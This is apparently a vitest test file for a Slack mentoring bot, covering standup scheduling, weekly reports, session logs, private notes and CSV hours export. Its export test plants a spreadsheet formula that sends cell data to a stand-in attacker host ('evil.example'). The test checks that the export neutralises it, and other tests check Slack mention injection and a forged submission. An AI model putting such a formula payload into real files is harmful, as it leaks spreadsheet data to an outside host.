import { parse } from 'csv-parse/sync';
import { describe, expect } from 'vitest';
import type { FakeMessage } from '../support/fake-slack.js';
import { blockKitViolations } from '../support/block-kit-limits.js';
import { seedProgram, worldTest, type OpenedView, type World } from '../support/world.js';

/**
 * Program in Denver starting Monday 2027-01-11, standup Fridays 10:00 in each mentor's own zone.
 * Ada mentors in Berlin (two mentees), Lee in Los Angeles (one mentee).
 */
let h: World;
const ADMIN = 'UADMIN';
const ADA = 'UADA';
const LEE = 'ULEE';
const [M1, M2, M3] = ['UMENTEE1', 'UMENTEE2', 'UMENTEE3'] as const;
const ALERTS = 'GALERTS';

const alerts = () => h.messagesTo(ALERTS, 'alert');

type View = OpenedView;

async function openStandup(mentor: string): Promise<View> {
  const prompt = h.messagesTo(mentor, 'standup_prompt')[0] as FakeMessage;
  const value = /"value":"(\d+)"/.exec(JSON.stringify(prompt.blocks))?.[1];
  return h.viewOpenedBy(() =>
    h.sender.action({
      user: mentor,
      trigger_id: '1.2.s',
      actions: [{ type: 'button', action_id: 'standup_open', value, action_ts: '1' }],
      container: { type: 'message', channel_id: prompt.channel, message_ts: prompt.ts },
      channel: { id: prompt.channel },
      message: { ts: prompt.ts },
    }),
  );
}

function standupState(
  view: View,
  perPairing: (pairingId: number) => { status: string; met: string; hours: string; concerns?: string },
  generalNote?: string,
) {
  const values: Record<string, Record<string, unknown>> = {};
  for (const b of view.blocks) {
    const m = /^(status|met|hours|concerns)_(\d+)$/.exec(b.block_id ?? '');
    if (!m) continue;
    const answer = perPairing(Number(m[2]));
    const field = m[1] as 'status' | 'met' | 'hours' | 'concerns';
    values[b.block_id as string] = {
      value:
        field === 'status' || field === 'met'
          ? { type: 'static_select', selected_option: { value: answer[field] } }
          : { type: 'plain_text_input', value: answer[field] ?? null },
    };
  }
  if (generalNote !== undefined) values.general_note = { value: { type: 'plain_text_input', value: generalNote } };
  return { values };
}
const submitStandup = (mentor: string, view: View, state: ReturnType<typeof standupState>) => h.submit(mentor, view, state);

async function pairingId(mentee: string) {
  return (await h.database.db.selectFrom('pairings').select('id').where('mentee_id', '=', mentee).executeTakeFirstOrThrow()).id;
}

const test = worldTest({ admins: [ADMIN], now: '2027-01-10T12:00:00Z', logLevel: 'trace' });

test.beforeEach(async ({ world }) => {
  h = world;
  await h.reset({ clearFiles: true });
  await seedProgram(h, {
    people: [
      { id: ADMIN, name: 'sam', tz: 'America/Denver' },
      { id: ADA, name: 'ada', real_name: 'Ada Mentor', tz: 'Europe/Berlin' },
      { id: LEE, name: 'lee', real_name: 'Lee Mentor', tz: 'America/Los_Angeles' },
      ...[M1, M2, M3].map((m) => ({ id: m, name: m.toLowerCase(), tz: 'America/New_York' })),
    ],
    at: '2027-01-10T12:00:00Z',
    pairs: [
      [ADA, M1],
      [ADA, M2],
      [LEE, M3],
    ],
  });
});

describe('Friday standup', () => {
  test('each mentor is asked once, at 10:00 in their own zone', async () => {
    await h.tick('2027-01-15T08:59:00Z');
    expect(h.messagesTo(ADA, 'standup_prompt')).toHaveLength(0);
    await h.tick('2027-01-15T09:00:00Z'); // 10:00 in Berlin
    await h.tick('2027-01-15T09:30:00Z');
    expect(h.messagesTo(ADA, 'standup_prompt')).toHaveLength(1);
    expect(h.messagesTo(LEE, 'standup_prompt')).toHaveLength(0);
    await h.tick('2027-01-15T18:00:00Z'); // 10:00 in Los Angeles
    await h.tick('2027-01-15T18:05:00Z');
    expect(h.messagesTo(LEE, 'standup_prompt')).toHaveLength(1);
    expect(h.messagesTo(ADA, 'standup_prompt')).toHaveLength(1);
    expect(h.messagesTo(M1, 'standup_prompt')).toHaveLength(0);
  });

  test('the form has a section per mentee; “at risk” raises exactly one alert with the mentor’s words, re-submitting does not repeat it', async () => {
    await h.tick('2027-01-15T09:00:00Z');
    const view = await openStandup(ADA);
    const headers = view.blocks.filter((b) => b.type === 'header');
    expect(headers).toHaveLength(2);
    const p1 = await pairingId(M1);
    const state = standupState(
      view,
      (id) =>
        id === p1
          ? { status: 'at_risk', met: 'no', hours: '0.5', concerns: 'Missed two labs, seems discouraged' }
          : { status: 'on_track', met: 'yes', hours: '1' },
      'Good week otherwise',
    );
    const res = await submitStandup(ADA, view, state);
    expect(res.status).toBe(200);
    expect(res.body).toBe('');
    await h.tandem.services.sender.idle();
    expect(alerts()).toHaveLength(1);
    expect(JSON.stringify(alerts()[0]?.blocks)).toContain('Missed two labs');
    expect(alerts()[0]?.text).toContain('Mentor raised a concern');

    const again = await openStandup(ADA);
    const status = again.blocks.find((b) => b.block_id === `status_${p1}`);
    expect(JSON.stringify(status?.element)).toContain('at_risk');
    await submitStandup(ADA, again, state);
    await h.tandem.services.sender.idle();
    expect(alerts()).toHaveLength(1);
    const entries = await h.database.db.selectFrom('standup_entries').selectAll().orderBy('pairing_id').execute();
    expect(entries.map((e) => [e.status, e.minutes])).toEqual([
      ['at_risk', 30],
      ['on_track', 60],
    ]);
  });

  test('bad values come back as field errors', async () => {
    await h.tick('2027-01-15T09:00:00Z');
    const view = await openStandup(ADA);
    const p1 = await pairingId(M1);
    const res = await submitStandup(
      ADA,
      view,
      standupState(view, () => ({ status: 'on_track', met: 'yes', hours: 'lots' })),
    );
    const body = res.json() as { response_action: string; errors: Record<string, string> };
    expect(body.response_action).toBe('errors');
    expect(body.errors[`hours_${p1}`]).toMatch(/number/i);
    expect(await h.database.db.selectFrom('standup_entries').selectAll().execute()).toHaveLength(0);
  });

  test('a reminder at the end of the mentor’s day, and a missing standup in Monday’s digest', async () => {
    await h.tick('2027-01-15T09:00:00Z');
    await h.tick('2027-01-15T18:00:00Z');
    const view = await openStandup(ADA);
    await submitStandup(
      ADA,
      view,
      standupState(view, () => ({ status: 'on_track', met: 'yes', hours: '1' })),
    );
    // Lee's day in Los Angeles ends at 08:00Z on Saturday; the nudge comes in its last hour.
    await h.tick('2027-01-16T06:59:00Z');
    expect(h.messagesTo(LEE, 'standup_reminder')).toHaveLength(0);
    await h.tick('2027-01-16T07:00:00Z');
    await h.tick('2027-01-16T07:30:00Z');
    expect(h.messagesTo(LEE, 'standup_reminder')).toHaveLength(1);
    expect(h.messagesTo(ADA, 'standup_reminder')).toHaveLength(0);

    await h.tick('2027-01-18T15:59:00Z');
    const digest = () =>
      (h.slack.conversations.get(ALERTS)?.messages ?? []).filter((m) => m.metadata?.event_payload?.kind === 'digest');
    expect(digest()).toHaveLength(0);
    await h.tick('2027-01-18T16:00:00Z'); // Monday 09:00 in Denver
    await h.tick('2027-01-18T17:00:00Z');
    expect(digest()).toHaveLength(1);
    const text = JSON.stringify(digest()[0]?.blocks);
    expect(text).toMatch(/Missing standups:\*? <@ULEE>/);
    expect(text).not.toMatch(/Missing standups:[^"]*UADA/);
    expect(text).toContain('<@UADA> 2.00h');
  });

  test('a mentor with more mentees than a page holds gets the standup in pages', async () => {
    for (let i = 0; i < 18; i++) {
      const id = `UMANY${i}`;
      h.slack.addUser({ id, name: `many${i}`, tz: 'UTC' });
      const r = await h.tandem.services.pairings.pair(ADMIN, { mentorId: ADA, menteeId: id });
      if (!r.ok) throw new Error(r.message);
    }
    await h.tick('2027-01-15T09:00:00Z');
    const page1 = await openStandup(ADA);
    expect(page1.blocks.filter((b) => b.type === 'header')).toHaveLength(15);
    expect(page1.blocks.length).toBeLessThanOrEqual(100);
    const res = await submitStandup(
      ADA,
      page1,
      standupState(page1, () => ({ status: 'on_track', met: 'yes', hours: '0.25' })),
    );
    const next = res.json() as { response_action: string; view: View };
    expect(next.response_action).toBe('update');
    expect(next.view.blocks.filter((b) => b.type === 'header')).toHaveLength(5);
    const done = await submitStandup(
      ADA,
      next.view,
      standupState(next.view, () => ({ status: 'on_track', met: 'yes', hours: '0.25' })),
    );
    expect(done.body).toBe('');
    expect(await h.database.db.selectFrom('standup_entries').selectAll().execute()).toHaveLength(20);
    const s = await h.database.db.selectFrom('standups').selectAll().where('mentor_id', '=', ADA).executeTakeFirstOrThrow();
    expect(s.submitted_at).toBeInstanceOf(Date);
  });
});

describe('weekly standup report', () => {
  const KIM = 'UKIM';
  const M4 = 'UMENTEE4';
  const reports = () =>
    (h.slack.conversations.get(ALERTS)?.messages ?? []).filter((m) => m.metadata?.event_payload?.kind === 'standup_report');
  const threadReplies = () =>
    (h.slack.conversations.get(ALERTS)?.messages ?? []).filter(
      (m) => m.metadata?.event_payload?.kind === 'standup_report_thread',
    );
  const everything = (m: FakeMessage | undefined) => `${m?.text ?? ''} ${JSON.stringify(m?.blocks ?? [])}`;

  /** Kim mentors in Tokyo; her only pair is paused, so she is never asked. */
  async function pausedMentor() {
    h.slack.addUser({ id: KIM, name: 'kim', tz: 'Asia/Tokyo' });
    h.slack.addUser({ id: M4, name: 'm4', tz: 'Asia/Tokyo' });
    const r = await h.tandem.services.pairings.pair(ADMIN, { mentorId: KIM, menteeId: M4 });
    if (!r.ok) throw new Error(r.message);
    await h.sender.command({ text: `pause <@${KIM}> <@${M4}>`, user_id: ADMIN });
    await h.slack.waitForResponse((res) => JSON.stringify(res.body).toLowerCase().includes('paus'));
    expect(
      (await h.database.db.selectFrom('pairings').select('status').where('mentor_id', '=', KIM).executeTakeFirstOrThrow()).status,
    ).toBe('paused');
  }

  test('after the standup day ends in the last mentor’s zone, one message in the alerts channel: what each mentor sent, who did not; a mentor whose pairs are all paused is not missing', async () => {
    await pausedMentor();
    await h.tick('2027-01-15T09:00:00Z'); // 10:00 in Berlin
    const view = await openStandup(ADA);
    const p1 = await pairingId(M1);
    await submitStandup(
      ADA,
      view,
      standupState(
        view,
        (id) =>
          id === p1
            ? { status: 'at_risk', met: 'no', hours: '0.5', concerns: 'Missed two labs <!channel> & seems discouraged' }
            : { status: 'on_track', met: 'yes', hours: '1' },
        'Good week <@UEVIL> otherwise',
      ),
    );
    await h.tick('2027-01-15T18:00:00Z'); // 10:00 in Los Angeles: Lee is asked, and never answers
    expect(h.messagesTo(LEE, 'standup_prompt')).toHaveLength(1);
    expect(h.messagesTo(KIM, 'standup_prompt')).toHaveLength(0);

    // Friday is over in Berlin (and long over in Tokyo), not in Los Angeles: the report waits for Lee's day.
    await h.tick('2027-01-15T23:00:00Z');
    await h.tick('2027-01-16T07:59:00Z');
    expect(reports()).toHaveLength(0);
    const report = await h.tick('2027-01-16T08:00:00Z'); // midnight in Los Angeles
    expect(report.standupReports).toBe(1);
    expect(reports()).toHaveLength(1);
    const text = everything(reports()[0]);
    expect(reports()[0]?.text).toBe('Standups for Backend, 11–15 Jan: 1 of 2 mentors sent their standup; missing: <@ULEE>.');
    expect(text).toContain('*<@UADA>* — 2 mentees, 1.50 h');
    expect(text).toContain('<@UMENTEE1>: :warning: at risk · did not meet · 0.50 h');
    expect(text).toContain('_Concerns:_ “Missed two labs &lt;!channel&gt; &amp; seems discouraged”');
    expect(text).toContain('<@UMENTEE2>: on track · met · 1.00 h');
    expect(text).toContain('_Anything else:_ “Good week &lt;@UEVIL&gt; otherwise”');
    expect(text).toContain('*Missing:* <@ULEE>');
    expect(text).not.toContain(KIM);
    expect(text).not.toMatch(/\d{4}-W\d{2}/);
    expect(blockKitViolations('message', { text: reports()[0]?.text, blocks: reports()[0]?.blocks })).toEqual([]);
    // Short enough to read in one message: no thread.
    expect(threadReplies()).toHaveLength(0);

    // Later passes, a restart's catch-up or Monday's digest post nothing more.
    await h.tick('2027-01-16T08:01:00Z');
    await h.tick('2027-01-18T16:00:00Z');
    expect(reports()).toHaveLength(1);
    expect(
      await h.database.db.selectFrom('deliveries').select('dedupe_key').where('kind', '=', 'standup_report').execute(),
    ).toEqual([{ dedupe_key: expect.stringMatching(/^standup-report:\d+:2027-W02$/) }]);
    // Only the private alerts channel has it.
    const elsewhere = [...h.slack.conversations.values()].filter((c) => c.id !== ALERTS).flatMap((c) => c.messages);
    expect(elsewhere.filter((m) => m.metadata?.event_payload?.kind === 'standup_report')).toHaveLength(0);
  });

  test('with no mentor in a later zone, the report comes when Friday ends in Berlin; a standup not sent is missing', async () => {
    await h.tandem.services.pairings.setStatus(ADMIN, await pairingId(M3), { to: 'paused' });
    await h.tick('2027-01-15T09:00:00Z');
    await h.tick('2027-01-15T22:59:00Z');
    expect(reports()).toHaveLength(0);
    await h.tick('2027-01-15T23:00:00Z'); // midnight in Berlin
    expect(reports()).toHaveLength(1);
    expect(reports()[0]?.text).toBe('Standups for Backend, 11–15 Jan: 0 of 1 mentor sent their standup; missing: <@UADA>.');
    expect(everything(reports()[0])).not.toContain(LEE);
  });

  test('a report due while Tandem was down goes out once at the next pass, in the week after', async () => {
    await h.tick('2027-01-15T09:00:00Z');
    await h.tick('2027-01-15T18:00:00Z');
    // Down from Friday evening until Monday: the first pass posts last week's report.
    await h.tick('2027-01-18T12:00:00Z');
    expect(reports()).toHaveLength(1);
    expect(reports()[0]?.text).toBe(
      'Standups for Backend, 11–15 Jan: 0 of 2 mentors sent their standup; missing: <@UADA>, <@ULEE>.',
    );
    await h.tick('2027-01-18T12:01:00Z');
    expect(reports()).toHaveLength(1);
  });

  test('a long week: one message, and each mentor’s standup threaded under it within Slack’s limits', async () => {
    for (let i = 0; i < 28; i++) {
      const id = `UMANY${i}`;
      h.slack.addUser({ id, name: `many${i}`, tz: 'UTC' });
      const r = await h.tandem.services.pairings.pair(ADMIN, { mentorId: ADA, menteeId: id });
      if (!r.ok) throw new Error(r.message);
    }
    await h.tick('2027-01-15T09:00:00Z');
    let page = await openStandup(ADA);
    for (;;) {
      const res = await submitStandup(
        ADA,
        page,
        standupState(
          page,
          (id) => ({
            status: id % 3 ? 'on_track' : 'needs_attention',
            met: 'yes',
            hours: '1',
            concerns: `Concern about pairing ${id}: ${'& '.repeat(480)}`,
          }),
          'A long week',
        ),
      );
      if (!res.body) break;
      page = (res.json() as { view: View }).view;
    }
    await h.tick('2027-01-15T18:00:00Z');
    await h.tick('2027-01-16T08:00:00Z');
    expect(reports()).toHaveLength(1);
    const parent = reports()[0] as FakeMessage;
    expect(parent.thread_ts).toBeUndefined();
    const pairings = await h.database.db.selectFrom('pairings').select('id').where('mentor_id', '=', ADA).execute();
    expect(everything(parent)).toContain(
      `<@UADA>: 30 mentees · ${pairings.filter((p) => p.id % 3 === 0).length} need attention · 30.00 h`,
    );
    expect(everything(parent)).toContain('*Missing:* <@ULEE>');
    const replies = threadReplies();
    expect(replies).toHaveLength(1);
    expect(replies[0]?.thread_ts).toBe(parent.ts);
    const reply = everything(replies[0]);
    for (const p of pairings) expect(reply).toContain(`Concern about pairing ${p.id}: &amp; &amp;`);
    for (const m of [parent, ...replies]) expect(blockKitViolations('message', { text: m.text, blocks: m.blocks })).toEqual([]);

    await h.tick('2027-01-16T08:05:00Z');
    expect(reports()).toHaveLength(1);
    expect(threadReplies()).toHaveLength(1);
  });
});

describe('session logs, hours and notes', () => {
  async function logSession(mentor: string, mentee: string, date: string, minutes: string, privateNotes?: string) {
    const from = h.slack.calls.length;
    await h.sender.command({ text: 'log', user_id: mentor });
    const view = (await h.slack.waitFor('views.open', { from })).args.view as View;
    const id = await pairingId(mentee);
    return h.sender.viewSubmission({
      user: { id: mentor },
      view: {
        id: 'VL',
        callback_id: view.callback_id,
        private_metadata: view.private_metadata,
        state: {
          values: {
            pairing: { value: { type: 'static_select', selected_option: { value: String(id) } } },
            date: { value: { type: 'datepicker', selected_date: date } },
            minutes: { value: { type: 'number_input', value: minutes } },
            done: { value: { type: 'plain_text_input', value: 'Reviewed the linked-list lab' } },
            private_notes: { value: { type: 'plain_text_input', value: privateNotes ?? null } },
          },
        },
      },
    });
  }

  test('a session log and a standup in the same week count once; the CSV export parses back to the same totals; private notes never reach a channel', async () => {
    const SECRET_LOG = 'worried about housing situation';
    const SECRET_NOTE = 'prefers written feedback, anxious on calls';
    await h.tick('2027-01-15T09:00:00Z');
    const saved = await logSession(ADA, M1, '2027-01-14', '60', SECRET_LOG);
    expect(saved.body).toBe('');
    const view = await openStandup(ADA);
    // M1: logged 60 min and reported 1.5 h in the standup -> the log counts. M2: standup only, 2 h.
    const p1 = await pairingId(M1);
    await submitStandup(
      ADA,
      view,
      standupState(view, (id) => ({ status: 'on_track', met: 'yes', hours: id === p1 ? '1.5' : '2' })),
    );

    await h.sender.command({ text: 'hours 2027-01', user_id: ADA });
    const mine = JSON.stringify((await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('Your hours'))).body);
    expect(mine).toContain('Your hours for 2027-01: 3.00');
    expect(mine).toContain('<@UMENTEE1>: 1.00 h (1 logged session)');

    await h.sender.command({ text: `note <@${M1}|m1> ${SECRET_NOTE}`, user_id: ADA });
    await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('Saved a private note'));
    await h.sender.command({ text: `notes <@${M1}>`, user_id: ADA });
    expect(
      JSON.stringify((await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('Your private notes'))).body),
    ).toContain(SECRET_NOTE);
    await h.sender.command({ text: `notes <@${M1}>`, user_id: LEE });
    expect(
      JSON.stringify((await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('no notes'))).body),
    ).not.toContain(SECRET_NOTE);
    await h.sender.command({ text: `note <@${M1}> sneaky`, user_id: LEE });
    await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('not one'));

    await h.sender.command({ text: 'hours export 2027-01', user_id: LEE });
    await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('Only program staff'));
    // Slack profile names are whatever people set: one that is a spreadsheet formula must open as text.
    const FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    await h.database.db.updateTable('people').set({ real_name: FORMULA }).where('slack_id', '=', M1).execute();
    await h.database.db.updateTable('people').set({ real_name: '@SUM(1+1)' }).where('slack_id', '=', M2).execute();
    await h.sender.command({ text: 'hours export 2027-01', user_id: ADMIN });
    await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('CSV file'));
    const file = h.slack.files.at(-1);
    expect(file?.filename).toBe('tandem-hours-2027-01.csv');
    const dm = h.slack.conversations.get(file?.channel_id ?? '');
    expect(dm?.is_im && dm.members.includes(ADMIN)).toBe(true);
    const rows = parse(file?.content?.toString('utf8') ?? '', { columns: true }) as {
      mentor_id: string;
      mentor: string;
      mentee_id: string;
      mentee: string;
      hours: string;
      source: string;
      sessions: string;
    }[];
    const total = (mentor: string) => rows.filter((r) => r.mentor_id === mentor).reduce((a, r) => a + Number(r.hours), 0);
    expect(total(ADA)).toBeCloseTo(3, 5);
    expect(rows.find((r) => r.mentee_id === M1)).toMatchObject({ hours: '1.00', source: 'log', sessions: '1' });
    expect(rows.find((r) => r.mentee_id === M2)).toMatchObject({ hours: '2.00', source: 'standup', mentee: "'@SUM(1+1)" });
    expect(rows.find((r) => r.mentee_id === M1)).toMatchObject({ mentee: `'${FORMULA}`, mentor: 'Ada Mentor' });

    await h.tick('2027-01-18T17:00:00Z');
    const channelCalls = h.slack.calls.filter((c) => c.method.startsWith('chat.') || c.method.startsWith('files.'));
    expect(channelCalls.length).toBeGreaterThan(5);
    for (const c of channelCalls) {
      expect(JSON.stringify(c.args)).not.toContain(SECRET_LOG);
      expect(JSON.stringify(c.args)).not.toContain(SECRET_NOTE);
    }
    expect(h.slack.files.some((f) => (f.content?.toString('utf8') ?? '').includes(SECRET_LOG))).toBe(false);
    // At trace level Slack's clients log every request: the log holds ids, never what was typed.
    expect(h.logs.text).toContain('chat.postMessage');
    for (const secret of [SECRET_LOG, SECRET_NOTE, 'evil.example']) expect(h.logs.text).not.toContain(secret);
  });

  test('a session log with bad values gets field errors; another mentor cannot edit it', async () => {
    const bad = await logSession(ADA, M1, '2027-03-01', '2');
    expect((bad.json() as { errors: Record<string, string> }).errors).toMatchObject({ minutes: expect.stringContaining('5') });
    const ok = await logSession(ADA, M1, '2027-01-08', '45');
    expect(ok.body).toBe('');
    const log = await h.database.db.selectFrom('session_logs').selectAll().executeTakeFirstOrThrow();
    const forged = await h.sender.viewSubmission({
      user: { id: LEE },
      view: {
        id: 'VX',
        callback_id: 'session_log_submit',
        private_metadata: JSON.stringify({ id: log.id }),
        state: {
          values: {
            pairing: { value: { selected_option: { value: String(await pairingId(M3)) } } },
            date: { value: { selected_date: '2027-01-08' } },
            minutes: { value: { value: '500' } },
          },
        },
      },
    });
    expect(JSON.stringify(forged.json())).toContain('Only the mentor who wrote');
    const after = await h.database.db.selectFrom('session_logs').selectAll().executeTakeFirstOrThrow();
    expect(after.minutes).toBe(45);
  });
});
